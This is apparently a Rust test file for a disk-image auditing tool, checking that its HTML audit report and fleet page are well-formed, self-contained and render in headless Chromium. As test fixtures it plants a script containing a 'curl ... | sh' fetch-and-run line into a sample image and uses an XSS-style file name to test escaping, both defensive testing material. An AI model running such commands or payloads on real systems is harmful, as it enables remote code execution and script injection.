//! The HTML report and the fleet page: well-formed, self-contained (no
//! network reference of any kind, a policy that pins its own style and
//! script), holding the verdict, every finding, the disk picture and the
//! changed files; rendered by a real browser (Debian's chromium, headless):
//! the screenshot is a non-blank picture of the window's size and the DOM
//! holds the verdict, every finding and the SVG. Without chromium the
//! browser part says so and is skipped (CI installs it).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod common;

use std::path::Path;

use common::*;
use serde_json::Value;

const SAMPLE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../samples/appliance.qcow2");

/// Tags that never close.
const VOID: &[&str] = &["meta", "input", "br", "hr", "img", "link"];

/// Checks that the page nests its elements properly (void elements
/// self-closed or HTML void), quotes every attribute, and leaves script and
/// style bodies alone. Returns the problems.
fn well_formed(html: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let mut stack: Vec<String> = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        let text = &rest[..lt];
        if text.contains('>') {
            problems.push(format!(
                "stray '>' in text near {:?}",
                &text[text.len().saturating_sub(40)..]
            ));
        }
        rest = &rest[lt..];
        if rest.starts_with("<!DOCTYPE") || rest.starts_with("<!--") {
            rest = &rest[rest.find('>').unwrap() + 1..];
            continue;
        }
        let end = rest.find('>').expect("unterminated tag");
        let tag = &rest[1..end];
        rest = &rest[end + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            match stack.pop() {
                Some(open) if open == name => {}
                other => problems.push(format!("</{name}> closes {other:?}")),
            }
            continue;
        }
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        let attrs = &tag[name.len()..].trim_end_matches('/');
        // Every attribute value is double-quoted.
        let mut in_quote = false;
        for (i, c) in attrs.char_indices() {
            if c == '"' {
                in_quote = !in_quote;
            } else if c == '=' && !in_quote && !attrs[i + 1..].starts_with('"') {
                problems.push(format!("unquoted attribute in <{tag}>"));
            }
        }
        // Self-closed (SVG) or an HTML void element: nothing to close.
        if tag.ends_with('/') || VOID.contains(&name.as_str()) {
            continue;
        }
        if name == "script" || name == "style" {
            let close = format!("</{name}>");
            let at = rest.find(&close).expect("unclosed script/style");
            rest = &rest[at + close.len()..];
            continue;
        }
        stack.push(name);
    }
    if !stack.is_empty() {
        problems.push(format!("unclosed: {stack:?}"));
    }
    problems
}

/// No way to reach the network or another file: no tag may name a URL, a
/// source, a style attribute (the policy would block it anyway) or an
/// embedding element, and the page's own style and script load nothing.
/// Text content may mention URLs (evidence does): it is not a reference.
fn self_contained(html: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        rest = &rest[lt + 1..];
        let end = rest.find('>').expect("unterminated tag");
        let tag = &rest[..end];
        rest = &rest[end + 1..];
        let lower = tag.to_ascii_lowercase();
        let name: String = lower
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        if [
            "link", "iframe", "object", "embed", "img", "base", "frame", "audio", "video", "source",
        ]
        .contains(&name.as_str())
        {
            problems.push(format!("<{tag}>"));
        }
        for bad in [
            "http:",
            "https:",
            "//",
            " src=",
            " style=",
            "url(",
            "javascript:",
            "data:",
            " on",
        ] {
            if lower.contains(bad) && !(name == "meta" && bad == "data:") {
                problems.push(format!("{bad:?} in <{tag}>"));
            }
        }
        if let Some(href) = lower.split(" href=\"").nth(1) {
            if !href.starts_with('#') {
                problems.push(format!("href out of the page in <{tag}>"));
            }
        }
        if name == "script" || name == "style" {
            let close = format!("</{name}>");
            let at = rest.find(&close).expect("unclosed");
            let body = &rest[..at];
            for bad in [
                "http",
                "url(",
                "@import",
                "fetch(",
                "XMLHttpRequest",
                "import(",
                "//",
            ] {
                if body.contains(bad) {
                    problems.push(format!("{bad:?} in the page's {name}"));
                }
            }
            rest = &rest[at..];
        }
    }
    let csp = html
        .split("Content-Security-Policy\" content=\"")
        .nth(1)
        .map(|c| &c[..c.find('"').unwrap()]);
    match csp {
        Some(c) => {
            assert!(c.contains("default-src 'none'"), "{c}");
            assert!(!c.contains("unsafe-inline"), "{c}");
        }
        None => problems.push("no Content-Security-Policy".into()),
    }
    problems
}

/// The sample as a raw disk with `content` written as `name` at the root of
/// its bootflash (debugfs into partition 1); `None` without debugfs.
fn plant(s: &Scratch, out: &str, name: &str, content: &str) -> Option<String> {
    let debugfs = find_tool("debugfs")?;
    let raw = s.s(out);
    qemu_img(&["convert", "-O", "raw", SAMPLE, &raw]);
    let part = s.s(&format!("{out}.p1"));
    std::fs::write(&part, peek(&raw, 1 << 20, 16 << 20)).unwrap();
    let local = s.path(&format!("{out}.local"));
    std::fs::write(&local, content).unwrap();
    let cmd = format!("write {} {name}", local.display());
    let r = run(&debugfs, &["-w", "-R", &cmd, &part]);
    assert!(r.ok(), "{}", r.describe());
    // And a file written then deleted: its blocks keep their bytes but are
    // free, what `qvet compact` reclaims.
    let junk = s.path(&format!("{out}.junk"));
    std::fs::write(&junk, random_bytes(256 << 10, 5)).unwrap();
    let cmds = s.path(&format!("{out}.cmds"));
    std::fs::write(&cmds, format!("write {} junk\nrm junk\n", junk.display())).unwrap();
    let r = run(&debugfs, &["-w", "-f", cmds.to_str().unwrap(), &part]);
    assert!(r.ok(), "{}", r.describe());
    poke(&raw, 1 << 20, &std::fs::read(&part).unwrap());
    Some(raw)
}

/// The sample with a script planted on its bootflash, as a qcow2.
fn planted(s: &Scratch) -> Option<String> {
    let raw = plant(
        s,
        "planted.raw",
        "agent.sh",
        "#!/bin/sh\ncurl -s http://203.0.113.9/a | sh\n",
    )?;
    let img = s.s("planted.qcow2");
    qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &img]);
    Some(img)
}

fn audit_titles(s: &Scratch, img: &str, extra: &[&str]) -> (String, Vec<String>) {
    let cat = s.s("catalog.sqlite");
    let mut args = vec!["audit", "--output", "json", "--catalog", &cat];
    args.extend_from_slice(extra);
    args.push(img);
    let r = run_with(QVET, &args, None, Stdout::Capture, ORACLE_TIMEOUT);
    let v: Value = serde_json::from_str(&r.stdout_str()).unwrap();
    let titles = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["title"].as_str().unwrap().to_string())
        .collect();
    (v[0]["verdict"].as_str().unwrap().to_string(), titles)
}

fn chromium() -> Option<String> {
    find_tool("chromium")
        .or_else(|| find_tool("chromium-browser"))
        .or_else(|| find_tool("google-chrome"))
}

fn browser(s: &Scratch, page: &Path, args: &[&str]) -> Run {
    let profile = s.s("chromium-profile");
    let mut all = vec![
        "--headless".to_string(),
        "--no-sandbox".into(),
        "--disable-gpu".into(),
        "--disable-quic".into(),
        "--no-first-run".into(),
        "--disable-background-networking".into(),
        "--disable-component-update".into(),
        "--disable-sync".into(),
        format!("--user-data-dir={profile}"),
    ];
    all.extend(args.iter().map(|a| (*a).to_string()));
    all.push(format!("file://{}", page.display()));
    run_with(
        &chromium().unwrap(),
        &all,
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    )
}

#[test]
fn report_of_a_planted_image_against_its_original() {
    let s = Scratch::new("report");
    let Some(img) = planted(&s) else {
        eprintln!("SKIP: debugfs (e2fsprogs) not found");
        return;
    };
    let html = s.path("report.html");
    let cat = s.s("catalog.sqlite");
    let r = run_with(
        QVET,
        &[
            "report",
            "--catalog",
            &cat,
            "--reference",
            SAMPLE,
            "-o",
            html.to_str().unwrap(),
            &img,
        ],
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    );
    assert_eq!(r.code(), Some(2), "{}", r.describe());
    assert!(
        r.stdout_str()
            .contains(&format!("report: {}", html.display())),
        "{}",
        r.describe()
    );
    let page = std::fs::read_to_string(&html).unwrap();
    assert_eq!(well_formed(&page), Vec::<String>::new());
    assert_eq!(self_contained(&page), Vec::<String>::new());

    let (verdict, titles) = audit_titles(&s, &img, &["--reference", SAMPLE]);
    assert!(
        page.contains(&format!("class=\"verdict v-{verdict}\"")),
        "verdict {verdict}"
    );
    for t in &titles {
        let escaped = t
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;");
        assert!(
            page.contains(&escaped),
            "finding {t:?} missing from the page"
        );
    }
    // The planted file: a finding placed on the picture, a change drawn, the tree entry.
    assert!(
        page.contains("iosxe-script"),
        "the planted script is a finding"
    );
    assert!(
        page.contains("<code>agent.sh</code> <b>added</b>"),
        "changed-files tree"
    );
    assert!(page.contains("class=\"changed\""), "changed ranges drawn");
    assert!(
        page.contains("<rect class=\"reclaim\""),
        "the deleted file's blocks are drawn as reclaimable"
    );
    let planted_mark = page
        .split("<g class=\"mark\">")
        .skip(1)
        .any(|m| m.contains("/agent.sh"));
    assert!(
        planted_mark,
        "the finding on /agent.sh is placed on the disk picture"
    );

    // The same page from audit --html.
    let html2 = s.path("audit.html");
    let r = run_with(
        QVET,
        &[
            "audit",
            "--catalog",
            &cat,
            "--reference",
            SAMPLE,
            "--html",
            html2.to_str().unwrap(),
            &img,
        ],
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    );
    assert_eq!(r.code(), Some(2));
    assert!(std::fs::read_to_string(&html2)
        .unwrap()
        .contains("<svg class=\"disk\""));
    // Never over an input.
    let r = qvet(&["report", "--catalog", &cat, "-o", &img, &img]);
    assert_eq!(r.code(), Some(1), "{}", r.describe());

    let Some(_) = chromium() else {
        eprintln!(
            "SKIP (browser part): no chromium on this machine; CI installs Debian's chromium"
        );
        return;
    };
    let shot = s.path("shot.png");
    let r = browser(
        &s,
        &html,
        &[
            "--window-size=1200,1600",
            &format!("--screenshot={}", shot.display()),
        ],
    );
    assert!(shot.is_file(), "{}", r.describe());
    let decoder = png::Decoder::new(std::io::BufReader::new(std::fs::File::open(&shot).unwrap()));
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size().unwrap()];
    let info = reader.next_frame(&mut buf).unwrap();
    assert_eq!((info.width, info.height), (1200, 1600));
    let px = info.color_type.samples();
    let mut colors = std::collections::HashSet::new();
    for p in buf[..info.buffer_size()].chunks(px) {
        colors.insert(p.to_vec());
        if colors.len() > 50 {
            break;
        }
    }
    assert!(
        colors.len() > 50,
        "the screenshot is blank ({} colours)",
        colors.len()
    );
    let dom = browser(&s, &html, &["--dump-dom"]);
    let dom = dom.stdout_str();
    assert!(
        dom.contains(&format!("v-{verdict}")),
        "DOM lacks the verdict"
    );
    assert!(dom.contains("<svg class=\"disk\""), "DOM lacks the SVG");
    assert!(
        dom.contains("<rect class=\"alloc"),
        "DOM lacks the allocation"
    );
    for t in &titles {
        let escaped = t
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;");
        assert!(dom.contains(&escaped), "DOM lacks finding {t:?}");
    }
}

#[test]
fn hostile_names_are_escaped() {
    // A file name with markup, planted into the sample, shows as text.
    let s = Scratch::new("report-xss");
    let Some(raw) = plant(
        &s,
        "x.raw",
        "<img_src=x_onerror=alert(1)>.sh",
        "#!/bin/sh\n",
    ) else {
        eprintln!("SKIP: debugfs not found");
        return;
    };
    let html = s.path("x.html");
    let cat = s.s("c.sqlite");
    let r = run_with(
        QVET,
        &[
            "report",
            "--catalog",
            &cat,
            "-o",
            html.to_str().unwrap(),
            "-f",
            "raw",
            &raw,
        ],
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    );
    assert!(matches!(r.code(), Some(0 | 2)), "{}", r.describe());
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        !page.contains("<img"),
        "markup from the image reached the page"
    );
    assert!(page.contains("&lt;img_src=x_onerror=alert(1)&gt;.sh"));
    assert_eq!(well_formed(&page), Vec::<String>::new());
}

#[test]
fn fleet_page_lists_copies_and_overlays() {
    let s = Scratch::new("fleet");
    let dir = s.path("lab");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(SAMPLE, dir.join("csr.qcow2")).unwrap();
    std::fs::copy(SAMPLE, dir.join("csr-copy.qcow2")).unwrap();
    let r = run(
        "qemu-img",
        &[
            "create",
            "-q",
            "-f",
            "qcow2",
            "-b",
            "csr.qcow2",
            "-F",
            "qcow2",
            dir.join("node1.qcow2").to_str().unwrap(),
        ],
    );
    assert!(r.ok(), "{}", r.describe());
    let html = s.path("fleet.html");
    let cat = s.s("c.sqlite");
    let r = run_with(
        QVET,
        &[
            "scan",
            "--catalog",
            &cat,
            "--html",
            html.to_str().unwrap(),
            dir.to_str().unwrap(),
        ],
        None,
        Stdout::Capture,
        ORACLE_TIMEOUT,
    );
    assert!(matches!(r.code(), Some(0 | 3)), "{}", r.describe());
    let page = std::fs::read_to_string(&html).unwrap();
    assert_eq!(well_formed(&page), Vec::<String>::new());
    assert_eq!(self_contained(&page), Vec::<String>::new());
    let row = |name: &str| {
        page.split("<tr data-severity=\"row\">")
            .find(|r| r.contains(&format!("{name}</code></td><td><span")))
            .unwrap_or_else(|| panic!("no row for {name}"))
            .to_string()
    };
    assert!(
        row("csr.qcow2").contains("csr-copy.qcow2"),
        "copies of the same content are named"
    );
    assert!(
        row("node1.qcow2").contains("csr.qcow2</code></td></tr>"),
        "the overlay names its backing file"
    );
}

#[test]
fn the_checkers_catch_what_they_look_for() {
    assert!(!well_formed("<div><p></div>").is_empty());
    assert!(!well_formed("<div class=x></div>").is_empty());
    assert!(well_formed("<div class=\"x\"><br/><svg><path d=\"M0 0\"/></svg></div>").is_empty());
    let csp = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\"/>";
    assert!(self_contained(csp).is_empty());
    for bad in [
        "<img alt=\"\"/>",
        "<a href=\"https://x\">x</a>",
        "<div style=\"color:red\"></div>",
        "<script>fetch('/x')</script>",
        "<span onclick=\"x()\"></span>",
    ] {
        assert!(!self_contained(&format!("{csp}{bad}")).is_empty(), "{bad}");
    }
}
